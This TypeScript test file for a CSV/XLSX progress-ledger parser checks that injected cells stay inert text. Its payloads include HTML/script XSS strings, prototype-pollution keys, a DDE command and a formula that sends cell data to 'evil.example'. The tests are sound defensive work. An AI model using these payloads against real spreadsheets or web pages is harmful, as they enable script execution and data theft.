import { type CorpusCase, issuesIn, rowsOf } from '../case.ts';
import { rawXlsx } from '../rawXlsx.ts';
import { textSheet } from '../text.ts';

const HEAD = ['事项编号', '报告月份', '进度%', '进展情况'];
const LINES = rowsOf('row | item | month | progress | text\n 2 | 04 | 2023-11 | 80 | 已批复');
const MEGA = 1_048_576;

/** Text columns of the ledger and what each is in a line. */
const TEXTS = {
  目标: 'target',
  进展情况: 'text',
  存在问题: 'difficulty',
  需协调事项: 'need',
  下一步: 'next',
  佐证: 'evidence',
} as const;
/** Columns of units, and how a line names them. */
const UNITS = { 渝方牵头单位: '渝牵头', 川方牵头单位: '川牵头', 责任单位: '责任', 配合单位: '配合' } as const;
const TAG = '<img src=x onerror=alert(1)>';
const NASTY = [
  TAG,
  '<script>document.title="owned"</script>',
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
] as const;
const ITEMS = NASTY.map((_, at) => `${at + 4}`.padStart(2, '0'));
/** Each text once in each column. */
const nasty = (row: number, column: number) => NASTY[(row + column) % NASTY.length] ?? TAG;

/** Cells made to run as something. */
export const INJECTED: readonly CorpusCase[] = [
  {
    name: 'HTML, script and formulas as text in every text column stay text',
    files: () => [
      {
        name: '注入.csv',
        bytes: textSheet([
          ['事项编号', '报告月份', ...Object.keys(UNITS), ...Object.keys(TEXTS)],
          ...ITEMS.map((item, row) => [
            `2023H2-${item}`,
            '2023-11',
            ...Object.keys(UNITS).map(() => TAG),
            ...Object.keys(TEXTS).map((_, column) => nasty(row, column)),
          ]),
        ]),
      },
    ],
    expected: {
      sheets: [
        {
          file: '注入.csv',
          taken: 'ledger',
          lines: ITEMS.map((item, row) => ({
            row: `${row + 2}`,
            item,
            units: Object.values(UNITS)
              .map((role) => `${role}:${TAG}`)
              .sort()
              .join(' '),
            ...Object.fromEntries(Object.values(TEXTS).map((field, column) => [field, nasty(row, column)])),
          })),
        },
      ],
      issues: [],
    },
  },
  {
    name: 'formula cells: the stored result is read, the formula told once a column',
    files: () => [
      {
        name: '公式.xlsx',
        bytes: rawXlsx({
          name: '11月',
          rows: [
            HEAD,
            [
              '2023H2-04',
              '2023-11',
              { value: 80, formula: '40*2' },
              { value: '点击', formula: 'HYPERLINK("http://evil.example/","点击")' },
            ],
            ['2023H2-05', '2023-11', { value: 70, formula: 'C2-10' }, '<b>路基</b>'],
          ],
        }),
      },
    ],
    expected: {
      sheets: [
        {
          file: '公式.xlsx',
          sheet: '11月',
          taken: 'ledger',
          lines: rowsOf(`
            row | item | progress | text
            2   | 04   | 80       | 点击
            3   | 05   | 70       | <b>路基</b>
          `),
        },
      ],
      issues: issuesIn('公式.xlsx', '11月', 'code | column\n formula | 进度%\n formula | 进展情况'),
      never: ['evil.example'],
    },
  },
  {
    name: 'names of heads, sheets and files that are traps',
    files: () => [
      {
        name: '<img src=x onerror=alert(1)>.xlsx',
        bytes: rawXlsx({
          name: "=cmd!'A0",
          rows: [
            ['__proto__', 'constructor', 'toString', ...HEAD, '<script>1</script>'],
            ['{"a":1}', 'b', 'c', '2023H2-04', '2023-11', 80, '已批复', 'd'],
          ],
        }),
      },
    ],
    expected: {
      sheets: [{ file: '<img src=x onerror=alert(1)>.xlsx', sheet: "=cmd!'A0", taken: 'ledger', lines: LINES }],
      issues: [],
      may: ['column-unused'],
    },
  },
  {
    name: 'cells of a megabyte in a CSV and in a workbook',
    files: () => [
      { name: '大格.csv', bytes: textSheet([HEAD, ['2023H2-04', '2023-11', 80, '长'.repeat(MEGA / 3)]]) },
      {
        name: '大格.xlsx',
        bytes: rawXlsx({ name: 'Sheet1', rows: [HEAD, ['2023H2-05', '2023-11', 70, 'x'.repeat(MEGA)]] }),
      },
    ],
    expected: {
      sheets: [
        { file: '大格.csv', taken: 'ledger', lines: rowsOf('row | item | progress\n 2 | 04 | 80') },
        { file: '大格.xlsx', taken: 'ledger', lines: rowsOf('row | item | progress\n 2 | 05 | 70') },
      ],
      issues: [
        { codes: ['cell-too-long'], file: '大格.csv', row: 2, column: '进展情况' },
        { codes: ['cell-too-long'], file: '大格.xlsx', row: 2, column: '进展情况' },
      ],
      never: ['长'.repeat(100_000), 'x'.repeat(100_000)],
    },
  },
];
